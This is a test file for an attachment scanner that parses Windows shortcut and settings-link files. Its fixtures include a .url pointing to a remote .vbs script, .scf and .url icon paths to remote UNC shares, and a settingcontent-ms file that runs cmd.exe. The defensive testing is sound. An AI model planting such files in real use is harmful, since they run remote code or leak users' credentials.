import { inspect } from 'sekisho'
import { describe, expect, test } from 'vitest'
import type { Kind } from '#domain'
import { damaged } from './fixtures/carrier-mutate.ts'
import { allFacts, takeApart } from './fixtures/office-open.ts'

interface Row {
  readonly name: string
  readonly text: string
  readonly kind: Kind
  /** Types and values of facts that must be there. */
  readonly says: readonly string[]
}

const xml = (inside: string): string => `<?xml version="1.0" encoding="UTF-8"?>\r\n${inside}`
const ROWS: readonly Row[] = [
  {
    name: 'a.url',
    text: '[InternetShortcut]\r\nURL=https://example.com/a\r\n',
    kind: 'internet-shortcut',
    says: ['link https://example.com/a', 'relation target https://example.com/a'],
  },
  {
    name: 'share.url',
    text: '[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nIDList=\r\nURL=file://files.example.com@80/dav/a.vbs\r\nIconFile=\\\\files.example.com\\x\\a.ico\r\n',
    kind: 'internet-shortcut',
    says: [
      'link file://files.example.com@80/dav/a.vbs',
      'code run file://files.example.com@80/dav/a.vbs',
      'relation icon \\\\files.example.com\\x\\a.ico',
    ],
  },
  {
    name: 'a.scf',
    text: '[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.9\\s\\a.ico\r\n',
    kind: 'internet-shortcut',
    says: ['relation icon \\\\203.0.113.9\\s\\a.ico'],
  },
  {
    name: 'a.iqy',
    text: 'WEB\r\n1\r\nhttps://example.com/data\r\n2\r\n3\r\n',
    kind: 'web-query',
    says: ['link https://example.com/data'],
  },
  {
    name: 'a.settingcontent-ms',
    text: xml(
      '<PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation><AppID>x</AppID><DeepLink>%windir%\\system32\\cmd.exe /c echo example.com &amp; rem</DeepLink><Icon>%windir%\\a.ico</Icon></ApplicationInformation></SearchableContent></PCSettings>',
    ),
    kind: 'settings-link',
    says: ['command %windir%\\system32\\cmd.exe /c echo example.com & rem', 'code run cmd.exe /c'],
  },
  {
    name: 'b.settingcontent-ms',
    text: xml(
      '<PCSettings><SearchableContent><ApplicationInformation><DeepLink>C:\\x\\calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
    ),
    kind: 'settings-link',
    says: ['code run C:\\x\\calc.exe'],
  },
  {
    name: 'a.search-ms',
    text: xml(
      '<persistedQuery version="1.0"><query><scope><include path="\\\\files.example.com@SSL\\DavWWWRoot" nonRecursive="true"/></scope></query></persistedQuery>',
    ),
    kind: 'settings-link',
    says: ['link \\\\files.example.com@SSL\\DavWWWRoot'],
  },
  {
    name: 'a.library-ms',
    text: xml(
      '<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\192.0.2.7\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
    ),
    kind: 'settings-link',
    says: ['link \\\\192.0.2.7\\share'],
  },
  {
    name: 'a.searchConnector-ms',
    text: xml(
      '<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"><simpleLocation><url>https://example.com/dav</url></simpleLocation></searchConnectorDescription>',
    ),
    kind: 'settings-link',
    says: ['link https://example.com/dav'],
  },
  {
    name: 'a.appinstaller',
    text: xml(
      '<AppInstaller Uri="https://example.com/a.appinstaller" Version="1.0.0.0" xmlns="http://schemas.microsoft.com/appx/appinstaller/2018"><MainPackage Name="Viewer" Uri="https://example.com/a.msix"/></AppInstaller>',
    ),
    kind: 'settings-link',
    says: ['link https://example.com/a.msix'],
  },
]

const said = (text: string | Buffer, name: string): string[] =>
  takeApart(Buffer.from(text), name).parts.flatMap(({ facts }) =>
    facts.flatMap((fact) => {
      if (fact.type === 'link') return [`link ${fact.url}`]
      if (fact.type === 'relation') return [`relation ${fact.relation} ${fact.target}`]
      if (fact.type === 'command') return [`command ${fact.command}`]
      return fact.type === 'code' ? [`code ${fact.does} ${fact.word}`] : []
    }),
  )

describe('small files that lead somewhere', () => {
  test.each(ROWS)('$name', ({ name, text, kind, says }) => {
    expect(takeApart(Buffer.from(text), name).parts[0]?.kind).toBe(kind)
    for (const each of says) expect(said(text, name)).toContain(each)
    // The same in the charsets that Windows writes.
    for (const each of says) expect(said(Buffer.from(`\ufeff${text}`, 'utf16le'), name)).toContain(each)
  })

  test('that run a command are held for it', async () => {
    const { findings } = await inspect(Buffer.from(ROWS[4]?.text ?? ''), { name: 'a.settingcontent-ms' })
    expect(findings.map(({ id }) => id)).toContain('attachment/shortcut-runs-command')
  })

  test('a link to a page runs nothing', () => {
    expect(allFacts(takeApart(Buffer.from(ROWS[0]?.text ?? ''), 'a.url'), 'code')).toEqual([])
  })

  test('survive damage', () => {
    for (const { text, name } of ROWS) {
      for (const broken of damaged(Buffer.from(text), 80)) {
        const flaws = takeApart(broken, name).parts.flatMap((part) => part.flaws)
        expect(flaws.filter(({ code }) => code === 'unpack/crashed')).toEqual([])
      }
    }
  })
})
